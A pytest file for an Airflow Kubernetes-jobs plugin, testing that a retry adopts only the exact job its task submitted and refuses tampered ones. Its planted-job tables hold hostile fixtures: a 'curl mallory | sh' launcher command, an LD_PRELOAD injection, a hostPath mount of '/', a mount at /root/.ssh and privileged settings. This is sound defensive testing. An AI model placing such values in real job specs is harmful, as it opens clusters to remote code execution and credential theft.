"""Which job a try adopts (jobs/adoption.py): only the one this task would have submitted, field for field,
read in the form the API server stores it (jobs/stored_form.py, ``JobKind.stored_form``); the first field
that differs is named. One table per rule: what the server, the kind's controller, admission, Kueue and
a job-level retry legitimately change is no difference; anything a planted job changes is one."""

from __future__ import annotations

import ast
import json
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from airflow_jobs_plugin.jobs import adoption, attempts, kinds, labels
from airflow_jobs_plugin.jobs.differences import ABSENT, Difference, first_difference
from airflow_jobs_plugin.jobs.spec import TaskIdentity, validate
from airflow_jobs_plugin.jobs.stored_form import pod_template, pull_policy, quantity
from airflow_jobs_plugin.queueing import kueue
from airflow_jobs_plugin.queueing.quota.flavors import Charge, Flavor

# This try is try 2; the job found is try 1's.
THIS_TRY = TaskIdentity("nightly", "train", "run-1", -1, 2)
EARLIER = TaskIdentity("nightly", "train", "run-1", -1, 1)
SCENARIO = "sim.airflow-jobs.io/scenario"
_T = datetime(2026, 1, 1, tzinfo=timezone.utc)
UID = "0b7d7c57-6d3f-4b7e-9a39-0f1c2e1d2a11"

BASE = dict(
    image="registry.example/trainer:1",
    group="vision",
    user="alice",
    gpus=1,
    cpu="1000m",
    memory="1024Mi",
    env={"EPOCHS": "3"},
    volumes=[{"name": "data", "configMap": {"name": "train-data"}}],
    volume_mounts=[{"name": "data", "mount_path": "/data"}],
    annotations={SCENARIO: '{"main": {"run": 1}}'},
)
KINDS = {
    "Job": {},
    "torchrun": {"framework": "torchrun", "workers": 2},
    "MPIJob": {"framework": "mpi", "workers": 2},
}


def submission(charge: Charge | None = None, **arguments: Any) -> adoption.Submission:
    spec = validate(**{**BASE, **arguments})
    return adoption.Submission(spec, THIS_TRY, charge, fingerprint=adoption.spec_fingerprint(spec, THIS_TRY))


def created(sub: adoption.Submission, task: TaskIdentity = EARLIER) -> dict:
    """What try ``task`` created, as the API returns it with only its uid added."""
    body = sub.body(task.try_number)
    body["metadata"].update(namespace="ml", uid=UID, resourceVersion="7")
    return body


def templates(job: dict) -> list[dict]:
    return [pod_set.template for pod_set in kinds.kind_of(job).pod_sets(job)]  # type: ignore[misc]


def pod(job: dict) -> dict:
    return templates(job)[0]["spec"]


def main(job: dict) -> dict:
    return pod(job)["containers"][0]


# --- the job a try created is adopted however the server stored it ----------------------------------


def _server_defaults(job: dict) -> None:
    """What kube-apiserver v1.36.3 writes into a Job it stores, as read back (pkg/apis/core/v1/defaults.go,
    pkg/apis/batch/v1/defaults.go, pkg/registry/batch/job/strategy.go): the defaults filled, the
    quantities in canonical form, empty fields left out, the selector generated from the uid."""
    for template in templates(job):
        spec = template["spec"]
        spec.update(
            dnsPolicy="ClusterFirst",
            schedulerName="default-scheduler",
            securityContext={},
            terminationGracePeriodSeconds=30,
        )
        spec.setdefault("restartPolicy", "Always")
        if "serviceAccountName" in spec:
            spec["serviceAccount"] = spec["serviceAccountName"]
        template["metadata"]["creationTimestamp"] = None
        for container in spec.get("initContainers", []) + spec["containers"]:
            container["imagePullPolicy"] = "IfNotPresent"
            container.setdefault("terminationMessagePath", "/dev/termination-log")
            container.setdefault("terminationMessagePolicy", "File")
            container.setdefault("resources", {})
            for amounts in container["resources"].values():
                if amounts.get("cpu") == "1000m":
                    amounts["cpu"] = "1"
                if amounts.get("memory") == "1024Mi":
                    amounts["memory"] = "1Gi"
            for variable in container.get("env", []):
                if "fieldRef" in variable.get("valueFrom", {}):
                    variable["valueFrom"]["fieldRef"]["apiVersion"] = "v1"
        for volume in spec.get("volumes", []):
            if "configMap" in volume:
                volume["configMap"]["defaultMode"] = 420
    if kinds.kind_of(job).resource.kind == "Job":
        spec = job["spec"]
        spec.setdefault("completionMode", "NonIndexed")
        spec.update(podReplacementPolicy="Failed", manualSelector=False)
        spec["selector"] = {"matchLabels": {labels.CONTROLLER_UID: UID}}
        spec["template"]["metadata"]["labels"].update(
            {
                labels.CONTROLLER_UID: UID,
                labels.LEGACY_CONTROLLER_UID: UID,
                labels.BATCH_JOB_NAME: job["metadata"]["name"],
                labels.LEGACY_JOB_NAME: job["metadata"]["name"],
            }
        )
    else:
        # The MPIJob CRD's schema defaults (kubeflow/mpi-operator v0.8.2).
        job["spec"].update(sshAuthMountPath="/root/.ssh", runLauncherAsWorker=False)


def _admitted(job: dict) -> None:
    kinds.kind_of(job)
    job["spec"] = {**job["spec"]}
    if "runPolicy" in job["spec"]:
        job["spec"]["runPolicy"]["suspend"] = False
    else:
        job["spec"]["suspend"] = False
    job["metadata"]["labels"][labels.ADMITTED] = "true"
    job["metadata"]["annotations"].update(
        {labels.ADMITTED_AT: "2026-01-01T00:00:05Z", labels.REQUEUE_COUNT: "1", labels.HISTORY: "[]"}
    )


def _stopped_by_a_person(job: dict) -> None:
    job["metadata"]["annotations"].update(
        {labels.STOPPED_AT: "2026-01-01T00:01:00Z", labels.STOPPED_BY: "bob", labels.QUEUE_WAITED: "12.5"}
    )


def _mpi_defaults_of_the_operator(job: dict) -> None:
    if "mpiReplicaSpecs" in job["spec"]:
        job["spec"]["mpiReplicaSpecs"]["Launcher"].pop("replicas")
        job["spec"]["mpiReplicaSpecs"]["Worker"]["template"]["spec"]["restartPolicy"] = "Always"


LEGITIMATE: dict[str, Callable[[dict], None]] = {
    "as built": lambda job: None,
    "as the API server stores it": _server_defaults,
    "admitted, requeued, its history written": _admitted,
    "stopped by a person": _stopped_by_a_person,
    "an MPIJob's defaults left to its operator": _mpi_defaults_of_the_operator,
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("change", LEGITIMATE)
def test_the_job_an_earlier_try_created_is_adopted_however_the_server_stored_it(kind, change):
    sub = submission(**KINDS[kind])
    job = created(sub)
    LEGITIMATE[change](job)
    assert adoption.job_difference(job, sub) is None


# What kube-apiserver v1.36.3 (with the MPIJob CRD of mpi-operator v0.8.2) returned for try 1's job of
# each kind, created from ``submission(**KINDS[kind]).body(1)`` on the real control plane
# (``scripts/cluster up --with mpi-operator,kueue``), its managedFields left out.
STORED = Path(__file__).parent / "stored_jobs"


@pytest.mark.parametrize("kind", KINDS)
def test_the_job_the_real_api_server_stored_is_adopted_and_one_extra_variable_is_not(kind):
    stored = json.loads((STORED / f"{kind.lower()}.json").read_text())
    sub = submission(**KINDS[kind])
    assert adoption.job_difference(stored, sub) is None

    main(stored)["env"].append({"name": "PYTHONPATH", "value": "/mallory"})
    assert adoption.job_difference(stored, sub).path.endswith(".containers[0].env[PYTHONPATH]")


@pytest.mark.parametrize("kind", KINDS)
def test_a_later_attempt_the_trigger_cloned_is_adopted_and_a_tampered_one_is_not(kind):
    sub = submission(**KINDS[kind])
    failed = created(sub)
    _server_defaults(failed)
    _admitted(failed)
    again = attempts.next_attempt(failed, name=EARLIER.job_name(3), attempt=3, not_before=_T, now=_T)
    again["metadata"]["uid"] = "another-uid"
    assert adoption.job_difference(again, sub) is None

    main(again)["env"].append({"name": "PYTHONPATH", "value": "/mallory"})
    assert adoption.job_difference(again, sub).path.endswith("containers[0].env[PYTHONPATH]")


def test_the_job_this_try_created_is_adopted_when_its_create_was_answered_already_exists():
    sub = submission()
    assert adoption.job_difference(created(sub, THIS_TRY), sub) is None


# --- a planted job is refused, naming the field -----------------------------------------------------


def _set(path: Callable[[dict], dict], key: str, value: Any) -> Callable[[dict], None]:
    return lambda job: path(job).__setitem__(key, value)


TEMPLATE = "spec.template.spec"
PLANTED = {
    # what the pods run, and with what
    "env": (
        lambda job: main(job)["env"].append({"name": "PYTHONPATH", "value": "/mallory"}),
        f"{TEMPLATE}.containers[0].env[PYTHONPATH]",
    ),
    "env value": (
        lambda job: main(job)["env"][-1].update(value="300"),
        f"{TEMPLATE}.containers[0].env[EPOCHS].value",
    ),
    "envFrom": (
        _set(main, "envFrom", [{"secretRef": {"name": "mallory"}}]),
        f"{TEMPLATE}.containers[0].envFrom",
    ),
    "volume": (
        lambda job: pod(job)["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
        f"{TEMPLATE}.volumes[host]",
    ),
    "volume source": (
        lambda job: pod(job)["volumes"][0].update(configMap={"name": "mallory"}),
        f"{TEMPLATE}.volumes[data].configMap.name",
    ),
    "volumeMount": (
        lambda job: main(job)["volumeMounts"].append({"name": "data", "mountPath": "/root/.ssh"}),
        f"{TEMPLATE}.containers[0].volumeMounts[/root/.ssh]",
    ),
    "resources": (
        lambda job: main(job)["resources"]["limits"].update(memory="64Gi"),
        f"{TEMPLATE}.containers[0].resources.limits[memory]",
    ),
    "pod securityContext": (
        _set(pod, "securityContext", {"runAsUser": 0}),
        f"{TEMPLATE}.securityContext",
    ),
    "container securityContext": (
        _set(main, "securityContext", {"privileged": True}),
        f"{TEMPLATE}.containers[0].securityContext",
    ),
    "nodeSelector": (_set(pod, "nodeSelector", {"pool": "mallory"}), f"{TEMPLATE}.nodeSelector"),
    "tolerations": (
        _set(pod, "tolerations", [{"operator": "Exists"}]),
        f"{TEMPLATE}.tolerations",
    ),
    "affinity": (
        _set(pod, "affinity", {"podAffinity": {}, "nodeAffinity": {"x": 1}}),
        f"{TEMPLATE}.affinity",
    ),
    "hostNetwork": (_set(pod, "hostNetwork", True), f"{TEMPLATE}.hostNetwork"),
    "runtimeClassName": (_set(pod, "runtimeClassName", "unsandboxed"), f"{TEMPLATE}.runtimeClassName"),
    "serviceAccountName": (_set(pod, "serviceAccountName", "admin"), f"{TEMPLATE}.serviceAccountName"),
    "image pull policy": (
        _set(main, "imagePullPolicy", "Never"),
        f"{TEMPLATE}.containers[0].imagePullPolicy",
    ),
    "sidecar": (
        lambda job: pod(job)["containers"].append({"name": "tap", "image": "mallory/tap:1"}),
        f"{TEMPLATE}.containers[1]",
    ),
    "scenario annotation": (
        lambda job: templates(job)[0]["metadata"]["annotations"].update({SCENARIO: '{"main": {"exit": 0}}'}),
        f"spec.template.metadata.annotations[{SCENARIO}]",
    ),
    "pod label": (
        lambda job: templates(job)[0]["metadata"]["labels"].update({"team": "mallory"}),
        "spec.template.metadata.labels[team]",
    ),
    # what is charged, and how long it may run
    "parallelism": (lambda job: job["spec"].update(parallelism=8), "spec.parallelism"),
    "completions": (lambda job: job["spec"].update(completions=8), "spec.completions"),
    "completionMode": (lambda job: job["spec"].update(completionMode="Indexed"), "spec.completionMode"),
    "backoffLimit": (lambda job: job["spec"].update(backoffLimit=1000), "spec.backoffLimit"),
    "activeDeadlineSeconds": (
        lambda job: job["spec"].update(activeDeadlineSeconds=10**7),
        "spec.activeDeadlineSeconds",
    ),
    "podFailurePolicy": (lambda job: job["spec"].pop("podFailurePolicy"), "spec.podFailurePolicy"),
    "manual selector": (
        lambda job: job["spec"].update(manualSelector=True, selector={"matchLabels": {"a": "b"}}),
        "spec.manualSelector",
    ),
    "GPU count annotation": (
        lambda job: job["metadata"]["annotations"].update({labels.GPUS: "0"}),
        f"metadata.annotations[{labels.GPUS}]",
    ),
    "GPU resource annotation": (
        lambda job: job["metadata"]["annotations"].update({labels.GPU_DEVICE: "nvidia.com/mig-1g.10gb"}),
        f"metadata.annotations[{labels.GPU_DEVICE}]",
    ),
    "group label": (
        lambda job: job["metadata"]["labels"].update({labels.GROUP: "nlp"}),
        f"metadata.labels[{labels.GROUP}]",
    ),
    "user annotation": (
        lambda job: job["metadata"]["annotations"].update({labels.USER_NAME: "mallory"}),
        f"metadata.annotations[{labels.USER_NAME}]",
    ),
    "a quota limit of its own": (
        lambda job: job["metadata"]["annotations"].update({labels.REQUEUE_LIMIT: "none"}),
        f"metadata.annotations[{labels.REQUEUE_LIMIT}]",
    ),
    "a Kueue LocalQueue of its own": (
        lambda job: job["metadata"]["labels"].update({kueue.QUEUE_NAME_LABEL: "fast-lane"}),
        f"metadata.labels[{kueue.QUEUE_NAME_LABEL}]",
    ),
    "a Kueue priority of its own": (
        lambda job: job["metadata"]["labels"].update({"kueue.x-k8s.io/priority-class": "top"}),
        "metadata.labels[kueue.x-k8s.io/priority-class]",
    ),
    "an owner": (
        lambda job: job["metadata"].update(
            ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}]
        ),
        "metadata.ownerReferences[0]",
    ),
    "the digest alone": (
        lambda job: job["metadata"]["annotations"].update({labels.SPEC_FINGERPRINT: "0" * 64}),
        f"metadata.annotations[{labels.SPEC_FINGERPRINT}]",
    ),
    "a later try's labels": (
        lambda job: job["metadata"]["labels"].update({labels.TRY: "3"}),
        f"metadata.labels[{labels.TRY}]",
    ),
    "another try's name": (
        lambda job: job["metadata"].update(name=THIS_TRY.job_name(1)),
        "metadata.name",
    ),
}


@pytest.mark.parametrize("planted", PLANTED)
def test_a_job_that_differs_from_this_tasks_in_one_field_is_refused_naming_it(planted):
    change, path = PLANTED[planted]
    sub = submission()
    job = created(sub)
    _server_defaults(job)
    change(job)
    difference = adoption.job_difference(job, sub)
    assert difference is not None and difference.path == path, difference


MPI_PLANTED = {
    "worker replicas": (
        lambda job: job["spec"]["mpiReplicaSpecs"]["Worker"].update(replicas=8),
        "spec.mpiReplicaSpecs[Worker].replicas",
    ),
    "slotsPerWorker": (lambda job: job["spec"].update(slotsPerWorker=8), "spec.slotsPerWorker"),
    "cleanPodPolicy": (
        lambda job: job["spec"]["runPolicy"].update(cleanPodPolicy="None"),
        "spec.runPolicy.cleanPodPolicy",
    ),
    "runPolicy deadline": (
        lambda job: job["spec"]["runPolicy"].pop("activeDeadlineSeconds"),
        "spec.runPolicy.activeDeadlineSeconds",
    ),
    "launcher as worker": (
        lambda job: job["spec"].update(runLauncherAsWorker=True),
        "spec.runLauncherAsWorker",
    ),
    "launcher command": (
        lambda job: job["spec"]["mpiReplicaSpecs"]["Launcher"]["template"]["spec"]["containers"][0].update(
            command=["sh", "-c", "curl mallory | sh"]
        ),
        "spec.mpiReplicaSpecs[Launcher].template.spec.containers[0].command",
    ),
    "worker env": (
        lambda job: job["spec"]["mpiReplicaSpecs"]["Worker"]["template"]["spec"]["containers"][0][
            "env"
        ].append({"name": "LD_PRELOAD", "value": "/tmp/x.so"}),
        "spec.mpiReplicaSpecs[Worker].template.spec.containers[0].env[LD_PRELOAD]",
    ),
}


@pytest.mark.parametrize("planted", MPI_PLANTED)
def test_an_mpijob_that_differs_in_one_field_is_refused_naming_it(planted):
    change, path = MPI_PLANTED[planted]
    sub = submission(framework="mpi", workers=2, active_deadline=3600)
    job = created(sub)
    change(job)
    difference = adoption.job_difference(job, sub)
    assert difference is not None and difference.path == path, difference


def test_a_job_of_another_kind_under_the_tasks_name_is_refused_naming_its_kind():
    sub = submission(framework="mpi", workers=2)
    job = created(submission())
    job["metadata"]["name"] = EARLIER.job_name(1)
    assert adoption.job_difference(job, sub) == Difference("kind", "MPIJob", "Job")


def test_the_refusal_names_the_job_the_field_and_both_values():
    sub = submission()
    job = created(sub)
    main(job)["env"].append({"name": "PYTHONPATH", "value": "/mallory"})
    message = adoption.foreign_problem(job, sub)
    assert message is not None
    assert message.startswith(f"Job ml/{EARLIER.job_name(1)} holds this task's name or task key")
    assert "spec.template.spec.containers[0].env[PYTHONPATH]: this task has none, that job has" in message
    assert "/mallory" in message and "airflow-jobs cancel ml/" in message


# --- the pool, Kueue and flavors --------------------------------------------------------------------

H100 = Flavor("h100", {"nvidia.com/gpu.product": "H100"})


def test_a_job_charged_to_a_flavor_or_kept_off_every_flavor_is_adopted_only_under_the_same_charge():
    on_h100 = submission(Charge("h100", flavor=H100), node_selector={"nvidia.com/gpu.product": "H100"})
    assert adoption.job_difference(created(on_h100), on_h100) is None
    kept_off = submission(Charge("nvidia.com/gpu", avoid={"nvidia.com/gpu.product": ("H100",)}))
    assert adoption.job_difference(created(kept_off), kept_off) is None

    without_avoidance = created(submission())
    assert adoption.job_difference(without_avoidance, kept_off).path == f"{TEMPLATE}.affinity"


def _handed_to(job: dict, queue: str) -> dict:
    """The admission controller's hand-over: the queue's label, its gate lifted (ledger.handoff_patch)."""
    job["metadata"]["labels"][kueue.QUEUE_NAME_LABEL] = queue
    del job["metadata"]["annotations"][kueue.ADMISSION_GATE_ANNOTATION]
    return job


def test_a_job_handed_to_kueue_is_adopted_before_and_after_the_handoff():
    sub = submission(kueue_queue="team-a")
    job = created(sub)
    assert kueue.QUEUE_NAME_LABEL not in job["metadata"]["labels"]
    assert adoption.job_difference(job, sub) is None
    # The pool's handoff: the queue's label, its gate lifted (ledger.handoff_patch).
    job["metadata"]["labels"][kueue.QUEUE_NAME_LABEL] = "team-a"
    del job["metadata"]["annotations"][kueue.ADMISSION_GATE_ANNOTATION]
    assert adoption.job_difference(job, sub) is None
    job["metadata"]["labels"][kueue.QUEUE_NAME_LABEL] = "other-team"
    assert adoption.job_difference(job, sub).path == f"metadata.labels[{kueue.QUEUE_NAME_LABEL}]"


def _kueue_admits(job: dict) -> None:
    """What Kueue v0.19.2 writes into the templates of a job it admits on a flavor with node labels and a
    taint's toleration, with topology-aware scheduling (pkg/podset/podset.go Merge)."""
    for template in templates(job):
        template["metadata"]["labels"]["kueue.x-k8s.io/podset"] = "main"
        template["metadata"]["annotations"]["kueue.x-k8s.io/workload"] = "job-train-1a2b3"
        spec = template["spec"]
        spec["nodeSelector"] = {**spec.get("nodeSelector", {}), "cloud.example/pool": "spot"}
        spec["tolerations"] = [*spec.get("tolerations", []), {"key": "spot", "operator": "Exists"}]
        spec["schedulingGates"] = [{"name": "kueue.x-k8s.io/topology"}]


@pytest.mark.parametrize("kind", KINDS)
def test_what_kueue_writes_into_a_job_it_admitted_is_no_difference_in_a_job_of_a_localqueue(kind):
    sub = submission(kueue_queue="team-a", node_selector={"zone": "a"}, **KINDS[kind])
    job = _handed_to(created(sub), "team-a")
    _kueue_admits(job)
    assert adoption.job_difference(job, sub) is None
    # A later attempt cloned from it keeps them.
    again = attempts.next_attempt(job, name=EARLIER.job_name(2), attempt=2, not_before=_T, now=_T)
    assert adoption.job_difference(again, sub) is None


def test_kueue_never_changes_a_value_the_template_sets_nor_adds_to_a_job_of_no_localqueue():
    sub = submission(kueue_queue="team-a", node_selector={"zone": "a"})
    job = created(sub)
    pod(job)["nodeSelector"]["zone"] = "b"
    assert adoption.job_difference(job, sub).path == f"{TEMPLATE}.nodeSelector[zone]"
    job = _handed_to(created(sub), "team-a")
    _kueue_admits(job)
    templates(job)[0]["metadata"]["annotations"][SCENARIO] = '{"main": {"exit": 0}}'
    assert adoption.job_difference(job, sub).path == f"spec.template.metadata.annotations[{SCENARIO}]"
    job = created(sub)
    pod(job)["schedulingGates"] = [{"name": "example.com/hold"}]
    assert adoption.job_difference(job, sub).path == f"{TEMPLATE}.schedulingGates"

    plain = submission()
    job = created(plain)
    _kueue_admits(job)
    assert adoption.job_difference(job, plain).path == "spec.template.metadata.labels[kueue.x-k8s.io/podset]"


# --- every key of the product's is compared, or written after creation ------------------------------


def _keys_of_labels_py() -> dict[str, str]:
    tree = ast.parse(Path(labels.__file__).read_text())
    found = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
            value = getattr(labels, node.targets[0].id)
            if isinstance(value, str) and value.startswith(f"{labels.PREFIX}/"):
                found[node.targets[0].id] = value
    return found


def _written_at_creation() -> set[str]:
    """The product's keys some build of this module writes on a job or its pod templates."""
    subs = [
        submission(**KINDS[kind], **extra)
        for kind in KINDS
        for extra in (
            {},
            {
                "gpu_resource": "nvidia.com/mig-1g.10gb",
                "requeue_limit": 3,
                "queue_timeout": 60,
                "schedule_timeout": 30,
            },
            {"kueue_queue": "team-a"},
        )
    ]
    subs.append(submission(Charge("h100", flavor=H100), node_selector={"nvidia.com/gpu.product": "H100"}))
    keys: set[str] = set()
    for sub in subs:
        job = sub.body()
        for meta in [job["metadata"], *(t["metadata"] for t in templates(job))]:
            keys |= set(meta.get("labels", {})) | set(meta.get("annotations", {}))
    return {k for k in keys if k.startswith(f"{labels.PREFIX}/")}


# Keys labels.py declares for other objects than jobs: a cancel's record (jobs/cancel_record.py).
NOT_ON_JOBS = {labels.RECORD, labels.CANCELLED_JOB}


def test_every_key_of_the_product_is_written_at_creation_and_compared_or_named_as_written_after():
    at_creation = _written_at_creation()
    unclassified = {
        name: key
        for name, key in _keys_of_labels_py().items()
        if key not in at_creation and key not in adoption.WRITTEN_AFTER_CREATION and key not in NOT_ON_JOBS
    }
    assert unclassified == {}, (
        "a key the product writes after creating a job goes into adoption.WRITTEN_AFTER_CREATION; "
        "one it writes at creation must be written by a build"
    )
    # Written at creation but changed later: not compared, for that reason only.
    assert at_creation & adoption.WRITTEN_AFTER_CREATION == {
        labels.CREATED,
        labels.QUEUED_AT,
        labels.REQUEUE_COUNT,
    }


# --- the stored form and the differences, rule by rule ----------------------------------------------


@pytest.mark.parametrize(
    ("image", "policy"),
    [
        ("trainer", "Always"),
        ("trainer:latest", "Always"),
        ("registry.example:5000/trainer", "Always"),
        ("registry.example:5000/trainer:1", "IfNotPresent"),
        ("trainer@sha256:" + "a" * 64, "IfNotPresent"),
        ("trainer:latest@sha256:" + "a" * 64, "Always"),
    ],
)
def test_the_pull_policy_a_container_gets_is_read_from_its_images_tag(image, policy):
    assert pull_policy(image) == policy


@pytest.mark.parametrize(
    ("written", "milli", "read"),
    [
        ("1000m", True, "1"),
        ("1", True, "1"),
        (1, True, "1"),
        ("1024Mi", True, "1073741824"),
        ("1Gi", True, "1073741824"),
        ("0.5", True, "0.5"),
        ("100u", True, "0.001"),
        ("100u", False, "0.0001"),
        ("1e3", True, "1000"),
        ("lots", True, "lots"),
    ],
)
def test_a_quantity_is_read_by_its_value_rounded_up_to_milli_units_where_the_server_rounds(
    written, milli, read
):
    assert quantity(written, milli=milli) == read


def test_a_template_is_read_with_the_servers_defaults_and_without_what_reads_as_absent():
    written = {
        "metadata": {"labels": {"empty": ""}, "creationTimestamp": None},
        "spec": {
            "containers": [
                {
                    "name": "main",
                    "image": "t:1",
                    "stdin": False,
                    "args": [],
                    "resources": {"limits": {"cpu": "2"}},
                }
            ],
            "volumes": [
                {"name": "scratch"},
                {"name": "cache", "emptyDir": {}},
                {"name": "s", "secret": {"secretName": "s"}},
            ],
            "hostNetwork": False,
            "automountServiceAccountToken": False,
            "serviceAccount": "trainer",
        },
    }
    read = pod_template(written)
    assert read["metadata"] == {"labels": {"empty": ""}}
    spec = read["spec"]
    assert spec["containers"][0] == {
        "name": "main",
        "image": "t:1",
        "resources": {"limits": {"cpu": "2"}, "requests": {"cpu": "2"}},
        "imagePullPolicy": "IfNotPresent",
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
    }
    assert spec["volumes"] == [
        {"name": "scratch", "emptyDir": {}},
        {"name": "cache", "emptyDir": {}},
        {"name": "s", "secret": {"secretName": "s", "defaultMode": 0o644}},
    ]
    assert "hostNetwork" not in spec and spec["automountServiceAccountToken"] is False
    assert spec["serviceAccountName"] == "trainer" and "serviceAccount" not in spec
    assert (spec["dnsPolicy"], spec["restartPolicy"], spec["schedulerName"]) == (
        "ClusterFirst",
        "Always",
        "default-scheduler",
    )
    assert pod_template(read) == read


@pytest.mark.parametrize(
    ("wanted", "found", "path"),
    [
        ({"a": 1}, {"a": 1}, None),
        ({"a": 1}, {"a": 1.0}, None),
        ({"a": 1}, {"a": True}, "x.a"),
        ({"a": 1}, {}, "x.a"),
        ({}, {"b": 1}, "x.b"),
        ({"labels": {"k/v": "1"}}, {"labels": {"k/v": "2"}}, "x.labels[k/v]"),
        ({"env": [{"name": "A"}, {"name": "B"}]}, {"env": [{"name": "B"}, {"name": "A"}]}, "x.env (order)"),
        ({"volumes": [{"name": "a"}, {"name": "b"}]}, {"volumes": [{"name": "b"}, {"name": "a"}]}, None),
        ({"env": [{"name": "A"}, {"name": "A"}]}, {"env": [{"name": "A"}]}, "x.env[1]"),
        ({"containers": [{"name": "m"}]}, {"containers": [{"name": "m"}, {"name": "s"}]}, "x.containers[1]"),
    ],
)
def test_the_first_difference_is_named_by_its_path(wanted, found, path):
    difference = first_difference(wanted, found, "x")
    assert (difference.path if difference else None) == path


def test_a_field_one_side_lacks_reads_as_none_in_the_message():
    difference = first_difference({"a": "1"}, {}, "x")
    assert difference == Difference("x.a", "1", ABSENT)
    assert difference.describe("ours", "theirs") == "x.a: ours has '1', theirs has none"
